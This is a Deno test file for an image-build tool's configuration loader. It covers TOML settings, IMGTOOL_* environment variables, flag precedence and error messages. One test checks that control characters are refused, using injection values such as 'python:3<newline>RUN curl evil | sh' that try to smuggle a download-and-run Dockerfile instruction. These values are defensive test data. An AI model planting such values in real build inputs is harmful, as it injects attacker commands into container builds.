import assert from "node:assert/strict";
import { join } from "node:path";
import { defaultConfig, loadConfig, UsageError } from "../mod.ts";
import { envName, findConfigFile, SETTINGS } from "../src/config.ts";
import { withTempDir, writeTree } from "./helpers.ts";

/** Load the configuration of a folder holding `toml` as its imgtool.toml. */
async function withToml<T>(
  toml: string,
  body: (dir: string, file: string) => T | Promise<T>,
): Promise<T> {
  return await withTempDir(async (dir) => {
    await writeTree(dir, { "imgtool.toml": toml });
    return await body(dir, join(dir, "imgtool.toml"));
  });
}

function usageError(pattern: RegExp, hint?: RegExp) {
  return (error: unknown) => {
    assert.ok(error instanceof UsageError, `a UsageError, got ${error}`);
    assert.equal(error.exitCode, 2);
    assert.match(error.message, pattern);
    if (hint) assert.match(error.hint ?? "", hint);
    return true;
  };
}

Deno.test("loadConfig() reads every setting of imgtool.toml", async () => {
  const toml = `
registry = "ghcr.io/acme"
builder = "docker"
platforms = ["linux/arm64", "linux/amd64"]
python-version = "3.11"
network = "none"
insecure-registries = ["registry.internal:5000"]

[images]
python = "mirror.example/python:{major}.{minor}"
uv = "mirror.example/uv:1"

[python]
installer = "pip"

[debian]
packages = ["ca-certificates"]

[refs]
base = "ghcr.io/acme/base:1"

[docker]
client = "podman"

[secrets]
dir = "secrets"
files = { TOKEN = "tokens/token.txt" }

[dockerfile]
syntax = "docker/dockerfile:1.7"

[cache]
mounts = false

[plugins.poetry_project]
version = "2.0.0"
`;
  await withToml(toml, (dir, file) => {
    const config = loadConfig({ startDir: dir, env: {} });
    // (TOML tables come as objects without a prototype; compare them as data.)
    assert.deepEqual({ ...config, plugins: JSON.parse(JSON.stringify(config.plugins)) }, {
      ...defaultConfig(),
      file,
      registry: "ghcr.io/acme",
      builder: "docker",
      platforms: ["linux/arm64", "linux/amd64"],
      pythonVersion: [3, 11],
      network: "none",
      insecureRegistries: ["registry.internal:5000"],
      images: { python: "mirror.example/python:{major}.{minor}", uv: "mirror.example/uv:1" },
      installer: "pip",
      debianPackages: ["ca-certificates"],
      refs: { base: "ghcr.io/acme/base:1" },
      dockerClient: "podman",
      secretsDir: join(dir, "secrets"),
      secretFiles: { TOKEN: join(dir, "tokens/token.txt") },
      dockerfileSyntax: "docker/dockerfile:1.7",
      cacheMounts: false,
      plugins: { poetry_project: { version: "2.0.0" } },
    });
    assert.ok(Object.isFrozen(config));
  });
});

Deno.test("loadConfig() names unknown settings and lists the known ones", async () => {
  await withToml(
    'registry = "r"\nregistery = "typo"\n[images]\npython = "p"\nruby = "r"\n',
    (dir, file) => {
      assert.throws(
        () => loadConfig({ startDir: dir, env: {} }),
        usageError(
          new RegExp(`^${file}: unknown settings registery, images\\.ruby$`),
          /^known settings: registry, builder, .*, plugins\.<name>$/,
        ),
      );
    },
  );
  await withToml("colour = 1\n", (dir, file) => {
    assert.throws(
      () => loadConfig({ startDir: dir, env: {} }),
      usageError(new RegExp(`^${file}: unknown setting colour$`)),
    );
  });
});

Deno.test("loadConfig() says which setting has the wrong type, and what it expected", async () => {
  const cases: [string, RegExp][] = [
    ["registry = 5", /: registry: expected a string, got 5$/],
    ['[cache]\nmounts = "yes"', /: cache\.mounts: expected true or false, got "yes"$/],
    [
      'insecure-registries = "one"',
      /: insecure-registries: expected a list of strings, got "one"$/,
    ],
    ["[refs]\nbase = 1", /: refs: expected a table of strings, got \{"base":1\}$/],
    ['platforms = ["linux/s390x"]', /: platforms: unknown platform "linux\/s390x"$/],
    ['python-version = "3"', /: python-version: expected a Python version like 3\.12, got "3"$/],
    ['[python]\ninstaller = "conda"', /: python\.installer: expected "uv" or "pip", got "conda"$/],
  ];
  for (const [toml, pattern] of cases) {
    await withToml(`${toml}\n`, (dir) => {
      assert.throws(() => loadConfig({ startDir: dir, env: {} }), usageError(pattern), toml);
    });
  }
});

Deno.test("loadConfig() reports a TOML syntax error with the file", async () => {
  await withToml("registry = \n", (dir, file) => {
    assert.throws(
      () => loadConfig({ startDir: dir, env: {} }),
      usageError(new RegExp(`^cannot read ${file}: `), /fix the TOML syntax/),
    );
  });
});

Deno.test("loadConfig() takes a platform, a Python version as a string or a pair", async () => {
  await withToml('platforms = "linux/arm64"\npython-version = [3, 13]\n', (dir) => {
    const config = loadConfig({ startDir: dir, env: {} });
    assert.deepEqual(config.platforms, ["linux/arm64"]);
    assert.deepEqual(config.pythonVersion, [3, 13]);
  });
});

Deno.test("loadConfig() parses IMGTOOL_* variables by the setting's type", () => {
  const config = loadConfig({
    startDir: "/nonexistent/imgtool-test",
    env: {
      IMGTOOL_REGISTRY: "127.0.0.1:5000",
      IMGTOOL_PLATFORMS: "linux/amd64, linux/arm64,linux/amd64",
      IMGTOOL_PYTHON_VERSION: "3.10",
      IMGTOOL_INSECURE_REGISTRIES: "a:5000, b:5000,",
      IMGTOOL_IMAGES_PYTHON: "mirror/python:{major}.{minor}",
      IMGTOOL_PYTHON_INSTALLER: "pip",
      IMGTOOL_DEBIAN_PACKAGES: "curl",
      IMGTOOL_REFS: "base=ghcr.io/acme/base:1, gpu = nvcr.io/cuda:12",
      IMGTOOL_CACHE_MOUNTS: "0",
      IMGTOOL_SECRETS_FILES: "TOKEN=/run/token",
      IMGTOOL_BUILDER: "",
    },
  });
  assert.equal(config.registry, "127.0.0.1:5000");
  assert.deepEqual(config.platforms, ["linux/amd64", "linux/arm64"]);
  assert.deepEqual(config.pythonVersion, [3, 10]);
  assert.deepEqual(config.insecureRegistries, ["a:5000", "b:5000"]);
  assert.equal(config.images.python, "mirror/python:{major}.{minor}");
  assert.equal(config.images.uv, defaultConfig().images.uv);
  assert.equal(config.installer, "pip");
  assert.deepEqual(config.debianPackages, ["curl"]);
  assert.deepEqual(config.refs, { base: "ghcr.io/acme/base:1", gpu: "nvcr.io/cuda:12" });
  assert.equal(config.cacheMounts, false);
  assert.deepEqual(config.secretFiles, { TOKEN: "/run/token" });
  assert.equal(config.builder, "auto", "an empty variable is not set");
  for (const [value, expected] of [["true", true], ["1", true], ["false", false]] as const) {
    assert.equal(
      loadConfig({ startDir: "/nonexistent", env: { IMGTOOL_CACHE_MOUNTS: value } }).cacheMounts,
      expected,
    );
  }
});

Deno.test("loadConfig() names the variable whose value is wrong", () => {
  const cases: [Record<string, string>, RegExp][] = [
    [{ IMGTOOL_CACHE_MOUNTS: "yes" }, /^IMGTOOL_CACHE_MOUNTS: expected true or false, got "yes"$/],
    [{ IMGTOOL_PYTHON_VERSION: "3" }, /^IMGTOOL_PYTHON_VERSION: expected a Python version/],
    [
      { IMGTOOL_PLATFORMS: "windows/amd64" },
      /^IMGTOOL_PLATFORMS: unknown platform "windows\/amd64"$/,
    ],
    [{ IMGTOOL_REFS: "base" }, /^IMGTOOL_REFS: expected name=value pairs, got "base"$/],
    [{ IMGTOOL_PYTHON_INSTALLER: "conda" }, /^IMGTOOL_PYTHON_INSTALLER: expected "uv" or "pip"/],
  ];
  for (const [env, pattern] of cases) {
    assert.throws(() => loadConfig({ startDir: "/nonexistent", env }), usageError(pattern));
  }
  assert.throws(
    () =>
      loadConfig({
        startDir: "/nonexistent",
        env: {},
        overrides: { registry: undefined, platforms: "x" },
      }),
    usageError(/^--platforms: unknown platform "x"$/),
  );
});

Deno.test("settings come from imgtool.toml, then IMGTOOL_* variables, then flags", async () => {
  await withToml('registry = "from-file.example"\nbuilder = "buildah"\n', (dir) => {
    const load = (env: Record<string, string>, overrides = {}) =>
      loadConfig({ startDir: dir, env, overrides });
    assert.equal(load({}).registry, "from-file.example");
    assert.equal(load({ IMGTOOL_REGISTRY: "from-env.example" }).registry, "from-env.example");
    const all = load({ IMGTOOL_REGISTRY: "from-env.example" }, { registry: "from-flag.example" });
    assert.equal(all.registry, "from-flag.example");
    assert.equal(all.builder, "buildah", "settings no layer overrides keep the file's value");
    assert.equal(load({}, { registry: undefined }).registry, "from-file.example");
  });
});

Deno.test("imgtool.toml is found in the spec's folder or above, within home; IMGTOOL_CONFIG names another", async () => {
  await withTempDir(async (dir) => {
    await writeTree(dir, {
      "imgtool.toml": 'registry = "outer.example"\n',
      "project/deep/spec.ts": "",
      "other.toml": 'registry = "other.example"\n',
    });
    // With `dir` as the home folder, the search goes up to it (see config_boundary_test.ts).
    const home = { HOME: dir };
    assert.equal(findConfigFile(join(dir, "project", "deep"), dir), join(dir, "imgtool.toml"));
    assert.equal(
      loadConfig({ startDir: join(dir, "project", "deep"), env: home }).registry,
      "outer.example",
    );
    const named = loadConfig({
      startDir: join(dir, "project"),
      env: { ...home, IMGTOOL_CONFIG: join(dir, "other.toml") },
    });
    assert.equal(named.registry, "other.example");
    assert.equal(named.file, join(dir, "other.toml"));
    assert.throws(
      () => loadConfig({ startDir: dir, env: { IMGTOOL_CONFIG: join(dir, "missing.toml") } }),
      usageError(
        new RegExp(`^IMGTOOL_CONFIG names ${join(dir, "missing.toml")}, which does not exist$`),
        /unset IMGTOOL_CONFIG/,
      ),
    );
  });
});

Deno.test("secrets.dir and secrets.files are relative to the imgtool.toml that names them", async () => {
  await withTempDir(async (dir) => {
    await writeTree(dir, {
      "conf/imgtool.toml": '[secrets]\ndir = "../vault"\nfiles = { A = "a.txt" }\n',
    });
    const config = loadConfig({ startDir: join(dir, "conf", "sub"), env: { HOME: dir } });
    assert.equal(config.secretsDir, join(dir, "vault"));
    assert.deepEqual(config.secretFiles, { A: join(dir, "conf", "a.txt") });
  });
});

// Every control character, each where a value can come from: the file (at any depth, keys
// too), the IMGTOOL_* variables and the flags. Line breaks would end a Dockerfile
// instruction and start another.
const CONTROL_CHARACTERS = [
  ...Array.from({ length: 0x20 }, (_, code) => String.fromCharCode(code)),
  "\x7f",
];

/** How TOML writes `char` inside a basic string. */
function tomlEscape(char: string): string {
  return `\\u${char.charCodeAt(0).toString(16).padStart(4, "0")}`;
}

Deno.test("a control character in any value of imgtool.toml is refused, naming the key", async () => {
  const places: [toml: (bad: string) => string, name: string][] = [
    [(bad) => `registry = "ghcr.io/acme${bad}"`, "registry"],
    [(bad) => `[images]\npython = "python:3${bad}RUN curl evil | sh"`, "[images] python"],
    [(bad) => `[images]\nuv = "uv${bad}"`, "[images] uv"],
    [(bad) => `[dockerfile]\nsyntax = "docker/dockerfile:1${bad}"`, "[dockerfile] syntax"],
    [(bad) => `[debian]\npackages = ["curl", "git${bad}"]`, "[debian] packages[1]"],
    [(bad) => `[refs]\nbase = "debian${bad}"`, "[refs] base"],
    [(bad) => `[docker]\nclient = "docker${bad}"`, "[docker] client"],
    [(bad) => `[secrets.files]\nTOKEN = "t${bad}"`, "[secrets.files] TOKEN"],
    [(bad) => `[plugins.node]\nopts = { deep = ["x${bad}"] }`, "[plugins.node.opts] deep[0]"],
  ];
  for (const char of CONTROL_CHARACTERS) {
    for (const [toml, name] of places) {
      await withToml(`${toml(tomlEscape(char))}\n`, (dir, file) => {
        assert.throws(
          () => loadConfig({ startDir: dir, env: {} }),
          usageError(
            new RegExp(`^${file}: ${escapeRegExp(name)} holds .*U\\+00${hex(char)}`),
            new RegExp(`remove it from ${escapeRegExp(name)}`),
          ),
          `${name} with U+00${hex(char)}`,
        );
      });
    }
  }
  // Keys too: TOML can quote any key.
  await withToml(`[refs]\n"ba${tomlEscape("\n")}se" = "debian"\n`, (dir, file) => {
    assert.throws(
      () => loadConfig({ startDir: dir, env: {} }),
      usageError(new RegExp(`^${file}: the key "ba\\\\nse" in \\[refs\\] holds a line break`)),
    );
  });
  // The same values without the character load.
  await withToml('registry = "ghcr.io/acme"\n[images]\npython = "python:3"\n', (dir) => {
    assert.equal(loadConfig({ startDir: dir, env: {} }).images.python, "python:3");
  });
});

Deno.test("a control character in an IMGTOOL_* variable or a flag is refused, naming it", () => {
  for (const char of CONTROL_CHARACTERS) {
    for (const setting of SETTINGS) {
      const name = envName(setting.key);
      // Every setting's variable, with a value that would be valid without the character.
      const valid = VALID_TEXT[setting.type];
      assert.doesNotThrow(() => loadConfig({ startDir: "/nonexistent", env: { [name]: valid } }));
      assert.throws(
        () => loadConfig({ startDir: "/nonexistent", env: { [name]: `${valid}${char}x` } }),
        usageError(new RegExp(`^${name} holds .*U\\+00${hex(char)}`), new RegExp(name)),
        `${name} with U+00${hex(char)}`,
      );
    }
    assert.throws(
      () =>
        loadConfig({ startDir: "/nonexistent", env: { IMGTOOL_CONFIG: `/etc/imgtool${char}` } }),
      usageError(/^IMGTOOL_CONFIG holds /, /IMGTOOL_CONFIG/),
    );
    // The flags that become settings (src/commands/prepare.ts passes --builder, --registry).
    for (const flag of ["registry", "builder"]) {
      assert.throws(
        () =>
          loadConfig({
            startDir: "/nonexistent",
            env: {},
            overrides: { [flag]: `ghcr.io${char}RUN evil` },
          }),
        usageError(new RegExp(`^--${flag} holds .*U\\+00${hex(char)}`), new RegExp(`--${flag}`)),
      );
    }
  }
});

/** A value each type of setting takes from a variable. */
const VALID_TEXT: Record<(typeof SETTINGS)[number]["type"], string> = {
  string: "value",
  list: "a,b",
  platforms: "linux/amd64",
  python: "3.12",
  boolean: "true",
  table: "a=b",
  installer: "pip",
  seconds: "30",
  image: "registry.internal/python:{major}.{minor}",
  tags: "latest,v1",
};

function hex(char: string): string {
  return char.charCodeAt(0).toString(16).toUpperCase().padStart(2, "0");
}

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}

Deno.test("every setting has an IMGTOOL_ variable named after its key", () => {
  assert.equal(envName("python-version"), "IMGTOOL_PYTHON_VERSION");
  assert.equal(envName("images.python"), "IMGTOOL_IMAGES_PYTHON");
  assert.equal(envName("cache.mounts"), "IMGTOOL_CACHE_MOUNTS");
  const names = SETTINGS.map((setting) => envName(setting.key));
  assert.equal(new Set(names).size, names.length);
});
